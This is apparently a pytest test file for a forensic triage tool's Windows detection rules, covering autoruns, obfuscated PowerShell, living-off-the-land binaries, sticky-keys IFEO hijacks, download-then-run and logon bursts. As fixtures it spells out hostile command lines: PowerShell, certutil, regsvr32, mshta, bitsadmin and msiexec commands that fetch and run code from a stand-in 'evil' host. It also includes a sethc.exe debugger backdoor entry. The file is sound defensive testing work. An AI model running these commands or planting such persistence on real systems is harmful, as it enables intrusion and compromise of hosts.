"""Every findings rule on constructed records: one case that must fire, one look-alike that must not."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from triage.analyze import findings as F
from triage.model import (
    Autorun,
    BrowserDownload,
    CommandHistory,
    Event,
    EventLogStats,
    Execution,
    Source,
)

T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def src(bp="files/C/x", loc="loc"):
    return Source(bundle_path=bp, locator=loc)


def run(cmd, name="X", category="run", **kw):
    return Autorun(source=src("files/C/Users/a/NTUSER.DAT", f"Run\\{name}"), category=category,
                   location="HKU\\a\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", name=name, command=cmd,
                   last_write=T0, **kw)


def ev(event_id, category, fields=None, provider="Microsoft-Windows-Security-Auditing", channel="Security",
       ts=T0, computer="HOST1"):
    return Event(source=src("files/C/Windows/System32/winevt/Logs/Security.evtx", f"record {event_id}"),
                 timestamp=ts, channel=channel, provider=provider, event_id=event_id, record_id=1,
                 computer=computer, category=category, description="d", fields=fields or {})


def rules(records, hostname="HOST1"):
    return {f.rule for f in F.evaluate(records, hostname=hostname)}


def only(records, rule, hostname="HOST1"):
    return [f for f in F.evaluate(records, hostname=hostname) if f.rule == rule]


@pytest.mark.parametrize("cmd", [
    "C:\\Users\\Public\\u.exe", "C:\\Users\\bob\\AppData\\Roaming\\x\\y.exe -q", "\"C:\\ProgramData\\z.exe\"",
    "%TEMP%\\a.exe", "C:\\Windows\\Temp\\s.exe", "C:\\Users\\bob\\Downloads\\setup.exe",
])
def test_autorun_user_writable_positive(cmd):
    fs = only([run(cmd)], "autorun_user_writable")
    assert len(fs) == 1 and fs[0].severity == "high" and fs[0].when == T0
    assert fs[0].evidence[0]["bundle_path"] == "files/C/Users/a/NTUSER.DAT"
    assert "T1547.001" in fs[0].attack


@pytest.mark.parametrize("cmd", [
    "C:\\Program Files\\Vendor\\app.exe", "%SystemRoot%\\system32\\svchost.exe -k netsvcs",
    "C:\\Windows\\System32\\SecurityHealthSystray.exe", "C:\\Users\\Publications.exe",
])
def test_autorun_user_writable_negative(cmd):
    assert not only([run(cmd)], "autorun_user_writable")


def test_autorun_known_benign_is_info():
    fs = only([run("\"C:\\Users\\tony\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background")],
              "autorun_user_writable")
    assert len(fs) == 1 and fs[0].severity == "info"


@pytest.mark.parametrize("cmd", [
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "powershell -c \"[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))\"",
    "powershell -c \"& ([char]105+[char]101+[char]120+[char]32)\"",
    "powershell -c " + "A" * 300,
])
def test_powershell_obfuscated_positive(cmd):
    assert "powershell_obfuscated" in rules([run(cmd)])
    # event-log command lines are the Sigma pack's (sigma_rules/execution), not this rule's
    assert "powershell_obfuscated" not in rules([ev(4688, "process", {"command_line": cmd})])


@pytest.mark.parametrize("cmd", [
    "powershell.exe -File C:\\scripts\\backup.ps1", "powershell -ExecutionPolicy Bypass -File x.ps1",
    "cmd /c echo -e hello", "git commit -e message",
])
def test_powershell_obfuscated_negative(cmd):
    assert "powershell_obfuscated" not in rules([run(cmd), ev(4688, "process", {"command_line": cmd})])


def test_powershell_in_history():
    hist = CommandHistory(source=src("files/C/Users/a/ConsoleHost_history.txt", "line 3"), shell="powershell",
                          user="a", line_number=3, command="iex (iwr http://evil/x.ps1)")
    fs = only([hist], "powershell_obfuscated")
    assert {f.evidence[0]["bundle_path"] for f in fs} == {hist.source.bundle_path}


@pytest.mark.parametrize("cmd,binary", [
    ("mshta.exe http://evil/x.hta", "mshta"),
    ("mshta vbscript:Execute(\"x\")", "mshta"),
    ("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"", "rundll32"),
    ("rundll32.exe C:\\Users\\Public\\x.dll,Start", "rundll32"),
    ("rundll32 C:\\Windows\\x.dat,Entry", "rundll32"),
    ("regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll", "regsvr32"),
    ("wscript.exe C:\\Users\\bob\\AppData\\Roaming\\a.vbs", "wscript/cscript"),
    ("certutil -urlcache -split -f http://evil/x.exe x.exe", "certutil"),
    ("certutil.exe -decode a.b64 a.exe", "certutil"),
    ("bitsadmin /transfer job /download /priority high http://evil/x C:\\x.exe", "bitsadmin"),
    ("msiexec /q /i http://evil/x.msi", "msiexec"),
])
def test_lolbin_positive(cmd, binary):
    fs = only([run(cmd)], "lolbin")
    assert any(binary in f.title for f in fs), [f.title for f in fs]


@pytest.mark.parametrize("cmd", [
    "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL", "regsvr32 /s C:\\Windows\\x.dll",
    "certutil -hashfile x.exe SHA256", "msiexec /i C:\\Installers\\a.msi /qn",
    "wscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs",
    "bitsadmin /list", "notepad.exe C:\\mshtabook.txt",
])
def test_lolbin_negative(cmd):
    assert not only([run(cmd)], "lolbin")


def test_ifeo_accessibility():
    bad = Autorun(source=src(), category="ifeo", location="HKLM\\...\\Image File Execution Options\\sethc.exe",
                  name="sethc.exe", command="C:\\Windows\\System32\\cmd.exe", details={"value": "Debugger"})
    other = Autorun(source=src(), category="ifeo", location="HKLM\\...\\IFEO\\notepad.exe", name="notepad.exe",
                    command="C:\\Tools\\notepad++.exe", details={"value": "Debugger"})
    fs = F.evaluate([bad, other], hostname="H")
    crit = [f for f in fs if f.rule == "ifeo_accessibility"]
    assert len(crit) == 1 and crit[0].severity == "critical" and "sethc.exe" in crit[0].title
    assert [f.severity for f in fs if f.rule == "ifeo_debugger"] == ["medium"]
    # a GlobalFlag alone on an accessibility binary is not the sticky-keys backdoor
    flag = Autorun(source=src(), category="ifeo", location="x", name="utilman.exe", command="GlobalFlag=0x200",
                   details={"value": "GlobalFlag"})
    assert not only([flag], "ifeo_accessibility")


def test_execution_odd_place():
    def pf(path):
        return Execution(source=src("files/C/Windows/Prefetch/X.pf"), kind="prefetch", executable="X.EXE",
                         path=path, run_count=2, last_runs=(T0,))
    odd = only([pf("\\VOLUME{01}\\USERS\\BOB\\APPDATA\\LOCAL\\TEMP\\X.EXE")], "execution_odd_place")
    assert len(odd) == 1 and odd[0].severity == "medium" and odd[0].when == T0
    assert only([pf("\\VOLUME{01}\\$RECYCLE.BIN\\S-1-5\\X.EXE")], "execution_odd_place")[0].severity == "high"
    assert not only([pf("\\VOLUME{01}\\PROGRAM FILES\\X\\X.EXE"), pf(None)], "execution_odd_place")


def _dl(target, end):
    return BrowserDownload(source=src("files/C/Users/a/History", "downloads.id=1"), browser="chrome", user="a",
                           start=end - timedelta(seconds=5), end=end, url="http://evil/setup.exe",
                           target_path=target)


def test_download_then_run():
    exe = Execution(source=src("files/C/Windows/Prefetch/SETUP.EXE-1.pf"), kind="prefetch", executable="SETUP.EXE",
                    path="\\VOLUME{1}\\USERS\\A\\DOWNLOADS\\SETUP.EXE", run_count=1, last_runs=(T0,))
    fs = only([_dl("C:\\Users\\a\\Downloads\\setup.exe", T0 - timedelta(minutes=2)), exe], "download_then_run")
    assert len(fs) == 1 and fs[0].when == T0 and len(fs[0].evidence) == 2
    # run before the download finished, or another name: no finding
    assert not only([_dl("C:\\Users\\a\\Downloads\\setup.exe", T0 + timedelta(minutes=2)), exe], "download_then_run")
    assert not only([_dl("C:\\Users\\a\\Downloads\\other.exe", T0 - timedelta(minutes=2)), exe], "download_then_run")


def test_logon_public_source():
    pub = ev(4624, "logon", {"logon_type": 10, "ip": "8.8.4.4", "account": "admin"})
    priv = ev(4624, "logon", {"logon_type": 10, "ip": "10.1.2.3"})
    local = ev(4624, "logon", {"logon_type": 2, "ip": "8.8.4.4"})
    fs = only([pub, pub, priv, local], "logon_public_source")
    assert len(fs) == 1 and "8.8.4.4" in fs[0].title and fs[0].evidence[0]["count"] == 2


def test_failed_logon_burst():
    burst = [ev(4625, "logon_failed", {"ip": "203.0.113.9"}, ts=T0 + timedelta(seconds=20 * i)) for i in range(12)]
    fs = only(burst, "failed_logon_burst")
    assert len(fs) == 1 and fs[0].when == T0
    spread = [ev(4625, "logon_failed", {"ip": "203.0.113.9"}, ts=T0 + timedelta(hours=i)) for i in range(12)]
    assert not only(spread, "failed_logon_burst")
    assert not only(burst[:5], "failed_logon_burst")


def test_computer_name_mismatch():
    def stats(computers):
        return EventLogStats(source=src("files/C/Windows/System32/winevt/Logs/System.evtx"), channel="System",
                             records=sum(computers.values()), errors=0, first=T0, last=T0, computers=computers)
    fs = only([stats({"HOST1.corp.local": 10, "OTHER": 3})], "computer_name_mismatch", hostname="host1")
    assert len(fs) == 1 and "OTHER" in fs[0].reason and "HOST1" not in str(fs[0].evidence[0]["computers"])
    assert not only([stats({"HOST1.corp.local": 10, "host1": 2})], "computer_name_mismatch", hostname="HOST1")


def test_off_network_marking():
    fs = F.evaluate([run("C:\\Users\\Public\\u.exe")], hostname="h")
    wins = [{"start": T0 - timedelta(hours=1), "end": T0 + timedelta(hours=1), "evidence": [], "_raw": None}]
    assert F.mark_off_network(fs, wins, known=True)[0].off_network is True
    later = [{"start": T0 + timedelta(hours=1), "end": None, "evidence": [], "_raw": None}]
    assert F.mark_off_network(fs, later, known=True)[0].off_network is False
    open_end = [{"start": T0 - timedelta(days=1), "end": None, "evidence": [], "_raw": None}]
    assert F.mark_off_network(fs, open_end, known=True)[0].off_network is True
    assert F.mark_off_network(fs, [], known=False)[0].off_network is None


def test_rules_table_documented():
    for name, fn in F.RULES:
        assert fn.__doc__ and "Why" in fn.__doc__, name


def test_duplicates_merged():
    # the same autostart in 30 users' hives: one finding, 30 pieces of evidence (capped)
    same = [Autorun(source=src(f"files/C/Users/u{i}/NTUSER.DAT", "Run"), category="run_key", location="Run",
                    name="upd", command="powershell iex (iwr http://evil/x.ps1)") for i in range(30)]
    fs = only(same, "powershell_obfuscated")
    assert len(fs) == 1
    assert "(seen 30 times)" in fs[0].reason
    assert len(fs[0].evidence) == F.MAX_MERGED_EVIDENCE


def test_moved_rules_are_pack_rules(pack):
    """What the record-selecting Python rules caught in event logs, the Sigma pack catches."""
    _, eng = pack
    cases = [
        {"Channel": "Security", "EventID": "1102", "Provider_Name": "Microsoft-Windows-Eventlog",
         "SubjectUserName": "mallory", "SubjectDomainName": "CORP"},
        {"Channel": "System", "EventID": "7045", "Provider_Name": "Service Control Manager",
         "ServiceName": "upd", "ImagePath": "C:\\Users\\Public\\svc.exe", "ServiceType": "user mode service",
         "StartType": "auto start", "AccountName": "LocalSystem"},
        {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": "1116",
         "Provider_Name": "Microsoft-Windows-Windows Defender", "Threat Name": "Trojan:Win32/X",
         "Path": "file:_C:\\x.exe", "Severity Name": "Severe"},
        {"Channel": "Security", "EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing",
         "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
         "CommandLine": "certutil -urlcache -split -f http://evil/x.exe x.exe"},
        {"Channel": "Security", "EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing",
         "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"},
    ]
    for case in cases:
        levels = {r.level for r in eng.match_fields(case)}
        assert levels & {"medium", "high", "critical"}, case


def test_off_network_unknown_after_logs_end():
    fs = F.evaluate([run("C:\\Users\\Public\\u.exe")], hostname="h")
    open_end = [{"start": T0 - timedelta(days=1), "end": None, "evidence": [], "_raw": None}]
    assert F.mark_off_network(fs, open_end, log_end=T0 - timedelta(hours=1))[0].off_network is None
    assert F.mark_off_network(fs, open_end, log_end=T0 + timedelta(hours=1))[0].off_network is True
